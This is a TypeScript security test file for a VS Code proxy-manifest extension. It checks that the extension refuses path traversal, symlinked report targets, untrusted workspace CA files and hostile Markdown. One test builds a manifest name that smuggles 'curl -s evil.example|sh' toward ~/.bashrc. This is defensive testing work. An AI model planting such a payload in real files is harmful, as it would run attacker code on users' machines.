// Attacks from issue 18 replayed in a real extension host: what a hostile repository can name or plant.
import * as assert from 'assert';
import * as fs from 'fs';
import * as net from 'net';
import * as path from 'path';
import * as vscode from 'vscode';
import type { FakeableServices } from '../../../src/extension/api';
import type { ManifestNode } from '../../../src/extension/views/manifestNodes';
import { hostileDocuments } from '../../unit/support/hostileMarkdown';
import { testingApi, workspaceFile } from './support';

function row(uri: vscode.Uri): ManifestNode {
  const name = uri.path.slice(uri.path.lastIndexOf('/') + 1);
  return { uri: uri.toString(), name, relativeDir: '', node: { id: 'manifest', kind: 'manifest', label: name, contextValue: 'atpProxy.manifest' } };
}

/** UI that records messages and questions and answers every question with `answer`. */
function recordingServices(answer?: string): { errors: string[]; asked: string[]; services: Partial<FakeableServices> } {
  const errors: string[] = [];
  const asked: string[] = [];
  const services: Partial<FakeableServices> = {
    window: { showErrorMessage: (m) => errors.push(m), showInformationMessage: () => undefined },
    ui: {
      ask: async (_s, message) => {
        asked.push(message);
        return answer;
      },
      pick: async () => undefined,
      input: async () => undefined,
      pickFile: async () => undefined,
      openUntitled: async () => undefined,
      openReadOnly: async () => undefined,
      openDiff: async () => undefined,
      reveal: async () => undefined,
    },
  };
  return { errors, asked, services };
}

/** A proxy on 127.0.0.1 that refuses every tunnel, so a test run ends quickly with a report. */
async function refusingProxy(): Promise<{ port: number; close(): void }> {
  const proxy = net.createServer((socket) => socket.once('data', () => socket.end('HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n')));
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  return { port: (proxy.address() as net.AddressInfo).port, close: () => proxy.close() };
}

function manifestText(port: number): Uint8Array {
  return Buffer.from(
    JSON.stringify({
      version: 1,
      instance: 'contoso',
      region: 'europe',
      proxy: { mode: 'static', server: `127.0.0.1:${port}` },
      firewall: { port: 443, allow: ['contososensorapi.atp.azure.com'] },
    }),
  );
}

describe('security: what a repository can plant', () => {
  let restore: (() => void) | undefined;
  afterEach(() => {
    restore?.();
    restore = undefined;
  });

  it('Save Report refuses a manifest named to write ../.bashrc, and a symbolic link where the report goes', async () => {
    const proxy = await refusingProxy();
    const folder = workspaceFile().fsPath;
    const bashrc = path.join(path.dirname(folder), '.bashrc');
    const hostile = workspaceFile('..%2F.bashrc#\ncurl -s evil.example|sh\n#.atpproxy.json');
    const plain = workspaceFile('linked.atpproxy.json');
    const planted = path.join(path.dirname(folder), 'planted.md');
    try {
      await vscode.workspace.fs.writeFile(hostile, manifestText(proxy.port));
      await vscode.workspace.fs.writeFile(plain, manifestText(proxy.port));
      fs.writeFileSync(planted, 'untouched\n');
      fs.symlinkSync(planted, path.join(folder, 'linked.connectivity.md'));
      const rec = recordingServices();
      restore = testingApi().fake(rec.services);
      for (const uri of [hostile, plain]) {
        const report = await vscode.commands.executeCommand<{ results: unknown[] }>('atpProxy.testConnectivity', row(uri));
        assert.ok(report.results.length > 0);
        assert.strictEqual(await vscode.commands.executeCommand('atpProxy.saveReport', row(uri)), undefined);
      }
      // What the old code wrote to: the folder's URI plus the raw name, parsed again.
      const folderUri = workspaceFile().toString();
      const oldTarget = vscode.Uri.parse(`${folderUri}/${'..%2F.bashrc#\ncurl -s evil.example|sh\n#'}.connectivity.md`);
      assert.strictEqual(path.normalize(oldTarget.fsPath), bashrc);
      assert.strictEqual(fs.existsSync(bashrc), false, `${bashrc} was written`);
      assert.strictEqual(fs.readFileSync(planted, 'utf8'), 'untouched\n');
      assert.strictEqual(rec.errors.length, 2, rec.errors.join('\n'));
      assert.match(rec.errors[0], /Cannot save the report of this manifest: the name contains "%"/);
      assert.match(rec.errors[1], /linked\.connectivity\.md next to the manifest is a symbolic link/);
    } finally {
      proxy.close();
      for (const f of [hostile, plain]) await vscode.workspace.fs.delete(f).then(undefined, () => undefined);
      fs.rmSync(path.join(folder, 'linked.connectivity.md'), { force: true });
      fs.rmSync(planted, { force: true });
      fs.rmSync(bashrc, { force: true });
    }
  });

  it('a CA file inside the workspace is trusted only after the user confirms it', async () => {
    const proxy = await refusingProxy();
    const uri = workspaceFile('ca-lab.atpproxy.json');
    const pem = workspaceFile('repo-ca.pem');
    const config = vscode.workspace.getConfiguration('atpProxy');
    try {
      await vscode.workspace.fs.writeFile(uri, manifestText(proxy.port));
      await vscode.workspace.fs.writeFile(pem, Buffer.from('-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n'));
      await config.update('connectivity.caFiles', ['repo-ca.pem'], vscode.ConfigurationTarget.Global);
      const declined = recordingServices(undefined);
      restore = testingApi().fake(declined.services);
      assert.strictEqual(await vscode.commands.executeCommand('atpProxy.testConnectivity', row(uri)), undefined);
      assert.deepStrictEqual(declined.asked, ['Trust the CA certificate repo-ca.pem from this workspace for connectivity tests?']);
      assert.deepStrictEqual(declined.errors, []);
      restore();
      const trusted = recordingServices('Trust for This Session');
      restore = testingApi().fake(trusted.services);
      const report = await vscode.commands.executeCommand<{ results: unknown[] }>('atpProxy.testConnectivity', row(uri));
      assert.ok(report && report.results.length > 0, trusted.errors.join('\n'));
    } finally {
      proxy.close();
      await config.update('connectivity.caFiles', undefined, vscode.ConfigurationTarget.Global);
      for (const f of [uri, pem]) await vscode.workspace.fs.delete(f).then(undefined, () => undefined);
    }
  });

  it("Read This Machine's Registry runs no reg command in Restricted Mode and says why", async () => {
    let started = 0;
    const errors: string[] = [];
    restore = testingApi().fake({
      window: { showErrorMessage: (m) => errors.push(m), showInformationMessage: () => undefined },
      environment: { platform: 'win32', env: {}, isTrusted: () => false, storagePath: '/nowhere', labOverrides: true },
      registry: async () => {
        started++;
        throw new Error('a registry backend was made in Restricted Mode');
      },
    });
    assert.strictEqual(await vscode.commands.executeCommand('atpProxy.readMachine'), undefined);
    assert.strictEqual(errors.length, 1);
    assert.match(errors[0], /runs reg\.exe .*disabled in Restricted Mode/);
    assert.strictEqual(started, 0);
  });

  it("VS Code's Markdown engine renders no image, link or HTML from hostile values in hovers, Preview Apply or the report", async () => {
    for (const { where, markdown } of await hostileDocuments()) {
      // The engine of the Markdown preview (markdown-it with linkify, as the preview is configured).
      const html = await vscode.commands.executeCommand<string>('markdown.api.render', markdown);
      assert.ok(typeof html === 'string' && html.length > 0, `${where}: nothing rendered`);
      const elements = [...html.matchAll(/<([a-z][a-z0-9]*)/gi)].map((m) => m[1].toLowerCase());
      const foreign = elements.filter(
        (tag) =>
          !['h1', 'h2', 'p', 'strong', 'em', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'code', 'ul', 'li', 'pre', 'blockquote', 'span', 'div'].includes(tag),
      );
      assert.deepStrictEqual(foreign, [], `${where}:\n${html}`);
      assert.doesNotMatch(html, /<[^>]*\b(href|src)=/i, `${where}:\n${html}`);
    }
  });
});
